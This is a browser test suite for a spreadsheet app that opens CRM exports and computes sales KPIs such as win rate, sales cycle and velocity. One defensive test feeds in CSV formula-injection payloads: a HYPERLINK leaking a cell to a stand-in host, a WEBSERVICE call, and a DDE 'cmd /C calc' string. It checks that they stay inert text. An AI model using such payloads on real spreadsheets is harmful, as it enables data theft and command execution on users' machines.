// Real CRM exports opened in the browser workbook, in Chromium on o-spreadsheet: the KPIs typed over their columns against the deals themselves.
import { join } from 'node:path';
import { unzipSync, strFromU8 } from 'fflate';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { columnLetters } from '../../core';
import {
  CRM_EXPORTS, didarExport, expectedKpis, greekExcelExport, hubspotExport, pipedriveExport, salesforceExport, salesforceFormattedReport, type CrmExport,
} from '../helpers/crm-exports';
import { SCREENSHOTS, useServedChromium, watchPage } from '../helpers/browser';

const served = useServedChromium('dist/web');

type Getters = Record<string, (...a: unknown[]) => unknown>;
interface SalesKpiWindow { salesKpi: { workbook: { model: { getters: Getters; dispatch: (t: string, p: unknown) => unknown; exportData(): { sheets: unknown } } } } }

async function open(browser: Browser, locale: string): Promise<{ context: BrowserContext; page: Page; problems: string[]; requests: string[] }> {
  const context = await browser.newContext({ locale, viewport: { width: 1400, height: 900 }, acceptDownloads: true });
  const page = await context.newPage();
  const { problems, requests } = watchPage(page);
  await page.goto(`${served.origin}/index.html`);
  await page.waitForFunction(() => (window as unknown as { salesKpi?: unknown }).salesKpi !== undefined && document.querySelector('.o-grid') !== null);
  return { context, page, problems, requests };
}

/** Opens a file with the file picker and waits until the toolbar has said something about it. */
async function openFile(page: Page, name: string, bytes: Uint8Array): Promise<string> {
  const before = await page.textContent('.toolbar .message');
  await page.setInputFiles('#open-file', { name, mimeType: 'application/octet-stream', buffer: Buffer.from(bytes) });
  await page.waitForFunction((previous) => {
    const text = document.querySelector('.toolbar .message')?.textContent ?? '';
    return text !== '' && text !== previous && !document.querySelector('.toolbar .busy:not([hidden])');
  }, before, { timeout: 60_000 });
  return (await page.textContent('.toolbar .message')) ?? '';
}

function setCells(page: Page, sheet: string, cells: Record<string, string>): Promise<void> {
  return page.evaluate(({ sheet, cells }) => {
    const model = (window as unknown as SalesKpiWindow).salesKpi.workbook.model;
    const sheetId = model.getters.getSheetIdByName(sheet);
    for (const [xc, content] of Object.entries(cells)) {
      const match = /^([A-Z]+)(\d+)$/.exec(xc)!;
      const col = [...match[1]].reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0) - 1;
      model.dispatch('UPDATE_CELL', { sheetId, col, row: Number(match[2]) - 1, content });
    }
  }, { sheet, cells });
}

/** Evaluated values of a block, 0-based corner. */
function block(page: Page, sheet: string, row: number, col: number, rows: number, cols: number): Promise<unknown[][]> {
  return page.evaluate(({ sheet, row, col, rows, cols }) => {
    const model = (window as unknown as SalesKpiWindow).salesKpi.workbook.model;
    const sheetId = model.getters.getSheetIdByName(sheet);
    return Array.from({ length: rows }, (_, r) => Array.from({ length: cols }, (_, c) => {
      const cell = model.getters.getEvaluatedCell({ sheetId, col: col + c, row: row + r }) as { value: unknown; message?: string };
      return cell.message ? `${String(cell.value)} ${cell.message}` : cell.value;
    }));
  }, { sheet, row, col, rows, cols });
}

function sheetNames(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const { getters } = (window as unknown as SalesKpiWindow).salesKpi.workbook.model;
    return (getters.getSheetIds() as string[]).map((id) => getters.getSheetName(id) as string);
  });
}

const range = (sheet: string, col: number, rows: number) => `'${sheet}'!${columnLetters(col)}2:${columnLetters(col)}${rows + 1}`;

/** Types the five KPIs over the opened columns, on the opened sheet to the right of the data, and compares each with the deals' own. */
async function expectKpisOf(page: Page, sheet: string, crm: CrmExport, noneLabel = '(none)'): Promise<void> {
  const n = crm.deals.length;
  const c = crm.columns;
  const r = (col: number) => range(sheet, col, n);
  await setCells(page, sheet, {
    T1: `=WIN_RATE(${r(c.status)})`,
    T2: `=AVG_DEAL_SIZE(${r(c.amount)}, ${r(c.status)})`,
    T3: `=SALES_CYCLE(${r(c.created)}, ${r(c.close)}, ${r(c.status)})`,
    T4: `=AVG_RESPONSE_TIME(${r(c.received)}, ${r(c.responded)})`,
    T6: `=BY_SOURCE(${r(c.source)}, ${r(c.amount)})`,
  });
  const expected = expectedKpis(crm.deals);
  for (const row of expected.bySource) if (row[0] === '(none)') row[0] = noneLabel;
  const [[winRate], [avgDealSize], [salesCycle], [response]] = await block(page, sheet, 0, 19, 4, 1);
  expect(winRate, `${crm.vendor} WIN_RATE`).toBe(expected.winRate);
  expect(avgDealSize, `${crm.vendor} AVG_DEAL_SIZE`).toBeCloseTo(expected.avgDealSize, 6);
  expect(salesCycle, `${crm.vendor} SALES_CYCLE`).toBeCloseTo(expected.salesCycle, 9);
  expect(response, `${crm.vendor} AVG_RESPONSE_TIME`).toBeCloseTo(expected.avgResponseHours, 9);
  const table = await block(page, sheet, 5, 19, expected.bySource.length + 1, 4);
  expect(table.slice(0, -1).map((row) => row.slice(0, 2)), `${crm.vendor} BY_SOURCE`).toEqual(expected.bySource.map((row) => row.slice(0, 2)));
  table.slice(0, -1).forEach((row, i) => {
    expect(row[2]).toBeCloseTo(expected.bySource[i][2] as number, 6);
    expect(row[3]).toBeCloseTo(expected.bySource[i][3] as number, 12);
  });
  expect(table[table.length - 1][0], 'no row past the sources').toBeNull();
}

const LOCALES: Record<string, string> = { Didar: 'fa-IR', 'Greek Excel': 'el-GR' };
const NONE: Record<string, string> = { 'fa-IR': '(بدون منبع)', 'el-GR': '(χωρίς πηγή)' };

describe('CRM exports opened in the browser workbook', () => {
  it.each(CRM_EXPORTS.map((make) => [make().vendor, make] as const))('%s: WIN_RATE, AVG_DEAL_SIZE, SALES_CYCLE, BY_SOURCE and AVG_RESPONSE_TIME equal the deals\' own', async (vendor, make) => {
    const crm = make();
    const locale = LOCALES[vendor] ?? 'en-US';
    const { context, page, problems, requests } = await open(served.browser, locale);
    const message = await openFile(page, crm.fileName, crm.bytes);
    const sheet = (await sheetNames(page)).at(-1)!;
    expect(message).toContain(crm.fileName);
    expect(message).toContain(sheet);
    // BY_SOURCE names the row of no source in the page's language.
    await expectKpisOf(page, sheet, crm, NONE[locale]);
    await page.screenshot({ path: join(SCREENSHOTS, `crm-${vendor.toLowerCase().replace(/\W+/g, '-')}-${locale}.png`) });
    expect(problems).toEqual([]);
    expect(requests.every((url) => url.startsWith(served.origin))).toBe(true);
    await context.close();
  }, 120_000);

  it('says how the Greek file was read, and takes the other reading of an open column in one click', async () => {
    const crm = greekExcelExport();
    const { context, page, problems } = await open(served.browser, 'en-US');
    const message = await openFile(page, crm.fileName, crm.bytes);
    const sheet = (await sheetNames(page)).at(-1)!;
    expect(message).toContain('Read as Greek (Windows-1253).');
    expect(message).toContain('“Ποσό” with a decimal comma');
    expect(message).toContain('“Ημερομηνία κλεισίματος” with the day first');
    expect(message).toMatch(/Its cells read both ways, so the page's language decided: “Τεμάχια” with a decimal point \(\d+\.000 is \d+\)/);
    const pieces = async () => (await block(page, sheet, 1, 6, crm.deals.length, 1)).flat() as number[];
    // The file writes 500, 1.000 … 7.500 (Greek thousands): read with a decimal point, 1.000 is 1.
    const written = crm.deals.map((_, i) => ((i * 7) % 15 + 1) * 500);
    const before = await pieces();
    expect(before).toEqual(written.map((n) => (n >= 1000 ? n / 1000 : n)));
    await page.screenshot({ path: join(SCREENSHOTS, 'crm-greek-reading-choice-en.png') });
    await page.click('.toolbar .message .reading-choice');
    expect(await page.textContent('.toolbar .message')).toMatch(/^Now read “Τεμάχια” with a decimal comma \(\d+\.000 is \d+,000\)\.$/);
    expect(await pieces()).toEqual(written);
    // One undo puts the first reading back, applied once the page's storage accepts it.
    await page.evaluate(() => (window as unknown as SalesKpiWindow).salesKpi.workbook.model.dispatch('REQUEST_UNDO', {}));
    await page.waitForFunction(() => ((window as unknown as SalesKpiWindow).salesKpi.workbook.model.getters.isFullySynchronized as () => boolean)());
    expect(await pieces()).toEqual(before);
    expect(problems).toEqual([]);
    await context.close();
  }, 120_000);

  it('leaves a cell typed after opening as it is when the other reading is taken', async () => {
    const crm = greekExcelExport();
    const { context, page } = await open(served.browser, 'en-US');
    await openFile(page, crm.fileName, crm.bytes);
    const sheet = (await sheetNames(page)).at(-1)!;
    await setCells(page, sheet, { G2: '42' });
    await page.click('.toolbar .message .reading-choice');
    expect(await page.textContent('.toolbar .message')).toContain('1 cell(s) changed since the file was opened were left as they are.');
    expect((await block(page, sheet, 1, 6, 1, 1))[0][0]).toBe(42);
    await context.close();
  }, 120_000);

  it('leaves out the Salesforce footer and a formatted report\'s title lines, and opens every sheet of a workbook', async () => {
    const { context, page } = await open(served.browser, 'en-US');
    const csv = salesforceExport();
    expect(await openFile(page, csv.fileName, csv.bytes)).toContain('Left out 2 footer line(s) below the data.');
    const report = salesforceFormattedReport();
    const message = await openFile(page, 'Opportunities.xlsx', report.bytes);
    expect(message).toContain('Opened Opportunities.xlsx: Opportunities - Report (55 rows), Opportunities - Accounts (2 rows).');
    expect(message).toContain('Empty sheets not added: Notes.');
    expect(message).toContain('Left out 5 title line(s) above the header (Opportunities - Report).');
    const names = await sheetNames(page);
    expect(names.slice(-2)).toEqual(['Opportunities - Report', 'Opportunities - Accounts']);
    expect((await block(page, 'Opportunities - Report', 0, 0, 1, 3))[0]).toEqual(['Opportunity Name', 'Stage', 'Amount']);
    await setCells(page, 'Opportunities - Report', { T1: `=WIN_RATE(${range('Opportunities - Report', 1, report.deals.length)})` });
    expect((await block(page, 'Opportunities - Report', 0, 19, 1, 1))[0][0]).toBe(expectedKpis(report.deals).winRate);
    await context.close();
  }, 120_000);

  it('keeps a formula in a CSV\'s header or body as text, in the page and in the exported .xlsx', async () => {
    const { context, page, requests } = await open(served.browser, 'en-US');
    const field = (text: string) => `"${text.replace(/"/g, '""')}"`;
    const csv = [
      [field('=HYPERLINK("http://x.example/?leak="&A2,"Amount")'), field('=WEBSERVICE("http://x.example")'), 'Stage'],
      ['=1+1', '@SUM(1)', 'Won'],
      ['+2', '-3', 'Lost'],
      [field("-2+3+cmd|' /C calc'!A0"), '=2', 'Open'],
    ].map((row) => row.join(',')).join('\n');
    await openFile(page, 'hostile.csv', new TextEncoder().encode(csv));
    const values = await block(page, 'hostile', 0, 0, 4, 3);
    // Plain numbers are numbers (+2 is 2); everything formula-like stays the text it is.
    expect(values).toEqual([
      ['=HYPERLINK("http://x.example/?leak="&A2,"Amount")', '=WEBSERVICE("http://x.example")', 'Stage'],
      ['=1+1', '@SUM(1)', 'Won'],
      [2, -3, 'Lost'],
      ["-2+3+cmd|' /C calc'!A0", '=2', 'Open'],
    ]);
    const download = page.waitForEvent('download');
    await page.click('#export-xlsx');
    const file = await (await download).path();
    const { readFileSync } = await import('node:fs');
    const parts = unzipSync(new Uint8Array(readFileSync(file!)));
    const sheets = Object.entries(parts).filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name)).map(([, bytes]) => strFromU8(bytes));
    expect(sheets.some((xml) => /WEBSERVICE|HYPERLINK/.test(xml.match(/<f>[^<]*<\/f>/g)?.join('') ?? ''))).toBe(false);
    // The texts are in the file as the page shows them, shared strings (never formulas), with no apostrophe before them.
    const strings = [...strFromU8(parts['xl/sharedStrings.xml']).matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)].map((m) => m[1].replace(/&apos;/g, "'").replace(/&quot;/g, '"').replace(/&amp;/g, '&'));
    expect(strings).toEqual(expect.arrayContaining(['=1+1', '@SUM(1)', '=2', "-2+3+cmd|' /C calc'!A0", '=WEBSERVICE("http://x.example")']));
    expect(strings.filter((text) => text.startsWith("'"))).toEqual([]);
    expect(requests.some((url) => url.includes('x.example'))).toBe(false);
    await context.close();
  }, 120_000);

  it.each([
    ['past the grid\'s columns', 'wide.csv', () => `${Array.from({ length: 18_279 }, (_, i) => `c${i}`).join(',')}\n`, 'Could not open wide.csv: it has more than 18,278 columns, more than the grid holds. Nothing was changed.'],
    ['past 2,000,000 cells', 'huge.csv', () => `a,b,c,d,e\n${'1,2,3,4,5\n'.repeat(400_001)}`, 'Could not open huge.csv: it has more than 2,000,000 cells. Nothing was changed.'],
  ])('refuses a CSV %s in one sentence and changes nothing', async (_what, name, content, sentence) => {
    const { context, page } = await open(served.browser, 'en-US');
    const before = await page.evaluate(() => JSON.stringify((window as unknown as SalesKpiWindow).salesKpi.workbook.model.exportData().sheets));
    expect(await openFile(page, name, new TextEncoder().encode(content()))).toBe(sentence);
    expect(await page.evaluate(() => JSON.stringify((window as unknown as SalesKpiWindow).salesKpi.workbook.model.exportData().sheets))).toBe(before);
    await context.close();
  }, 120_000);

  it('opens a CSV of 130,000 rows, past where the stack overflowed', async () => {
    const { context, page, problems } = await open(served.browser, 'en-US');
    const rows = Array.from({ length: 130_000 }, (_, i) => `${i % 3 ? 'Won' : 'Lost'},${(i % 500) + 1}`);
    const message = await openFile(page, 'big.csv', new TextEncoder().encode(`Stage,Amount\n${rows.join('\n')}\n`));
    expect(message).toBe('Opened big.csv: 130,000 rows on the sheet big.');
    await setCells(page, 'big', { D1: '=WIN_RATE(A2:A130001)' });
    expect((await block(page, 'big', 0, 3, 1, 1))[0][0]).toBeCloseTo(2 / 3, 4);
    expect(problems).toEqual([]);
    await context.close();
  }, 180_000);

  it('reads the Persian export in the Persian page', async () => {
    const crm = didarExport();
    const { context, page } = await open(served.browser, 'fa-IR');
    const message = await openFile(page, crm.fileName, crm.bytes);
    expect(message).toContain('didar-deals-1403.csv باز شد');
    await page.screenshot({ path: join(SCREENSHOTS, 'crm-didar-fa.png') });
    await context.close();
  }, 120_000);
});

describe.each([['en-US', pipedriveExport], ['fa-IR', didarExport], ['el-GR', greekExcelExport]] as const)('the wizard on a CRM export in %s', (locale, make) => {
  it('proposes the right columns for SALES_CYCLE, says why, and previews the deals\' own cycle', async () => {
    const crm = make();
    const { context, page, problems } = await open(served.browser, locale);
    await openFile(page, crm.fileName, crm.bytes);
    await page.click('#choose-SALES_CYCLE');
    await page.waitForSelector('#source-statuses');
    const value = (param: string) => page.$eval(`#source-${param}`, (s) => (s as HTMLSelectElement).value);
    expect([await value('start_dates'), await value('close_dates'), await value('statuses')])
      .toEqual([`column:${crm.columns.created}`, `column:${crm.columns.close}`, `column:${crm.columns.status}`]);
    const why = await page.$$eval('.match-why', (spans) => spans.map((span) => span.textContent));
    expect(why).toHaveLength(3);
    await page.click('#preview');
    await page.waitForSelector('.preview-output .result');
    const shown = (await page.textContent('.preview-output strong'))!.replace(/[۰-۹]/g, (d) => String('۰۱۲۳۴۵۶۷۸۹'.indexOf(d))).replace('٫', '.').replace(',', '.');
    expect(Number.parseFloat(shown)).toBeCloseTo(expectedKpis(crm.deals).salesCycle, 1);
    await page.screenshot({ path: join(SCREENSHOTS, `crm-wizard-${crm.vendor.toLowerCase().replace(/\W+/g, '-')}-${locale}.png`) });
    expect(problems).toEqual([]);
    await context.close();
  }, 120_000);
});

describe('a table inserted by the wizard', () => {
  it('near the right edge of an opened sheet with a space in its name: quoted, given the columns it needs, each column formatted', async () => {
    const crm = greekExcelExport();
    const { context, page, problems } = await open(served.browser, 'en-US');
    await openFile(page, crm.fileName, crm.bytes);
    const sheet = (await sheetNames(page)).at(-1)!;
    await page.evaluate(() => {
      const model = (window as unknown as { salesKpi: { workbook: { model: { selection: { selectCell(col: number, row: number): void } } } } }).salesKpi.workbook.model;
      model.selection.selectCell(24, 1);
    });
    await page.click('#choose-BY_SOURCE');
    await page.waitForSelector('#source-sources');
    await page.click('#use-selected-cell');
    await page.waitForFunction(() => (document.getElementById('target-cell') as HTMLInputElement).value !== '');
    expect(await page.inputValue('#target-cell')).toBe(`'${sheet}'!Y2`);
    await page.click('#insert');
    await page.waitForSelector('.status code');
    const shown = await page.evaluate((name) => {
      const model = (window as unknown as { salesKpi: { workbook: { model: { getters: Record<string, (...a: unknown[]) => unknown> } } } }).salesKpi.workbook.model;
      const sheetId = model.getters.getSheetIdByName(name);
      const cell = (col: number) => model.getters.getEvaluatedCell({ sheetId, col, row: 1 }) as { value: unknown; formattedValue: string };
      return { columns: model.getters.getNumberCols(sheetId), cells: [24, 25, 26, 27].map((col) => cell(col)) };
    }, sheet);
    expect(shown.columns).toBeGreaterThanOrEqual(28);
    const expected = expectedKpis(crm.deals).bySource;
    expect(shown.cells[0].value).toBe(expected[0][0]);
    expect(shown.cells[1].value).toBe(expected[0][1]);
    expect(shown.cells[2].formattedValue).toBe(Math.round(expected[0][2] as number).toLocaleString('en-US'));
    expect(shown.cells[3].formattedValue).toBe(`${((expected[0][3] as number) * 100).toFixed(1)}%`);
    await page.screenshot({ path: join(SCREENSHOTS, 'crm-wizard-table-edge-en.png') });
    expect(problems).toEqual([]);
    await context.close();
  }, 120_000);
});

describe.each([['en-US', hubspotExport], ['fa-IR', didarExport], ['el-GR', greekExcelExport]] as const)('the dashboard built from an opened export in %s', (locale, make) => {
  it('proposes the columns and statuses in one screen, and builds a dashboard over every row without a change', async () => {
    const crm = make();
    const { context, page, problems } = await open(served.browser, locale);
    const opened = (await sheetNames(page)).length;
    await openFile(page, crm.fileName, crm.bytes);
    const dataSheet = (await sheetNames(page))[opened];
    await page.click('#tab-template');
    await page.click('#read-own-sheet');
    await page.waitForSelector('#build-own-dashboard');
    const field = (key: string) => page.$eval(`#field-deals-${key}`, (s) => (s as HTMLSelectElement).value);
    const c = crm.columns;
    expect([await field('status'), await field('amount'), await field('created'), await field('closed'), await field('source')])
      .toEqual([c.status, c.amount, c.created, c.close, c.source].map(String));
    // Every status once, with its deals; won and lost proposed by the labels.
    const statuses = await page.$$eval('.own-status-table tbody tr', (rows) => rows.map((row) => [row.children[0].textContent, (row.querySelector('select') as HTMLSelectElement).value]));
    const byStage = new Map<string, string>();
    for (const deal of crm.deals) byStage.set(deal.stage, deal.outcome);
    expect(new Map(statuses as [string, string][])).toEqual(byStage);
    await page.locator('#build-own-dashboard').scrollIntoViewIfNeeded();
    await page.screenshot({ path: join(SCREENSHOTS, `own-dashboard-mapping-${crm.vendor.toLowerCase()}-${locale}.png`) });
    await page.click('#build-own-dashboard');
    await page.waitForFunction(() => /\S/.test(document.querySelector('.template .status:last-child')?.textContent ?? '') && !(document.querySelector('#build-own-dashboard') as HTMLButtonElement)?.disabled);
    await page.waitForFunction((count) => ((window as unknown as SalesKpiWindow).salesKpi.workbook.model.getters.getSheetIds() as string[]).length === count, opened + 2);
    const dashboard = (await sheetNames(page))[opened + 1];
    const expected = expectedKpis(crm.deals);
    const kpis = await block(page, dashboard, 4, 1, 3, 1);
    expect(kpis[0][0] as number).toBeCloseTo(expected.winRate, 12);
    expect(kpis[1][0] as number).toBeCloseTo(expected.avgDealSize, 6);
    expect(kpis[2][0] as number).toBeCloseTo(expected.salesCycle, 6);
    const names = await page.evaluate(() => (window as unknown as { salesKpi: { workbook: { model: { exportData(): { namedRanges: Record<string, string> } } } } }).salesKpi.workbook.model.exportData().namedRanges);
    // The sample's Deals_Status is taken: the export's status column is the next free name, open-ended.
    expect(names.Deals_2_Status).toBe(`'${dataSheet}'!${columnLetters(c.status)}2:${columnLetters(c.status)}`);
    await page.screenshot({ path: join(SCREENSHOTS, `own-dashboard-${crm.vendor.toLowerCase()}-${locale}.png`) });
    // The status block, as a user scrolls down to it: each status, its deals and value, what it counts as.
    await page.evaluate((sheet) => {
      const { model } = (window as unknown as { salesKpi: { workbook: { model: { getters: Getters; dispatch: (t: string, p: unknown) => unknown; selection: { selectCell(col: number, row: number): void } } } } }).salesKpi.workbook;
      const sheetId = model.getters.getSheetIdByName(sheet) as string;
      const cells = model.getters.getCells(sheetId) as { id: number; content?: string }[];
      const block = cells.find((c) => /^=IF\(.*COUNTIF\(/.test(String(model.getters.getCellText(model.getters.getCellPosition(c.id), { showFormula: true }))));
      const at = model.getters.getCellPosition(block!.id) as { row: number };
      model.selection.selectCell(0, at.row + 12);
    }, dashboard);
    await page.waitForTimeout(300);
    await page.screenshot({ path: join(SCREENSHOTS, `own-dashboard-statuses-${crm.vendor.toLowerCase()}-${locale}.png`) });
    expect(problems).toEqual([]);
    await context.close();
  }, 180_000);
});

describe.each([['en-US', pipedriveExport], ['fa-IR', didarExport]] as const)('pipeline velocity from an opened export in %s', (locale, make) => {
  it('proposes every input as a formula over the same table, previews and inserts the exact velocity', async () => {
    const crm = make();
    const { context, page, problems } = await open(served.browser, locale);
    await openFile(page, crm.fileName, crm.bytes);
    const sheet = (await sheetNames(page)).at(-1)!;
    await page.click('#choose-PIPELINE_VELOCITY');
    await page.waitForSelector('#source-cycle_length');
    const value = (param: string) => page.$eval(`#source-${param}`, (s) => (s as HTMLSelectElement).value);
    expect(await Promise.all(['opportunities', 'avg_deal_value', 'win_rate', 'cycle_length'].map(value))).toEqual(['derived', 'derived', 'derived', 'derived']);
    const formulas = await page.$$eval('.source-detail', (spans) => spans.map((span) => span.textContent ?? ''));
    const status = columnLetters(crm.columns.status);
    expect(formulas[0]).toMatch(new RegExp(`^COUNTA\\('[^']+'!${status}2:${status}\\d+\\)-COUNTIF\\(`));
    expect(formulas.slice(1).map((f) => f.replace(/\(.*/, ''))).toEqual(['AVG_DEAL_SIZE', 'WIN_RATE', 'SALES_CYCLE']);
    const k = expectedKpis(crm.deals);
    const openDeals = crm.deals.filter((d) => d.outcome === 'open').length;
    const velocity = openDeals * k.avgDealSize * k.winRate / k.salesCycle;
    await page.click('#preview');
    await page.waitForSelector('.preview-output .result');
    await page.screenshot({ path: join(SCREENSHOTS, `crm-wizard-velocity-${crm.vendor.toLowerCase()}-${locale}.png`) });
    await page.fill('#target-cell', `'${sheet}'!Z2`);
    await page.click('#insert');
    await page.waitForFunction(({ sheet }) => {
      const model = (window as unknown as SalesKpiWindow).salesKpi.workbook.model;
      const cell = model.getters.getEvaluatedCell({ sheetId: model.getters.getSheetIdByName(sheet), col: 25, row: 1 }) as { value: unknown };
      return typeof cell.value === 'number';
    }, { sheet });
    const [[inserted]] = await block(page, sheet, 1, 25, 1, 1);
    // The same sums in another order: equal to the last few bits.
    expect(Math.abs((inserted as number) - velocity) / velocity).toBeLessThan(1e-12);
    expect(problems).toEqual([]);
    await context.close();
  }, 120_000);
});
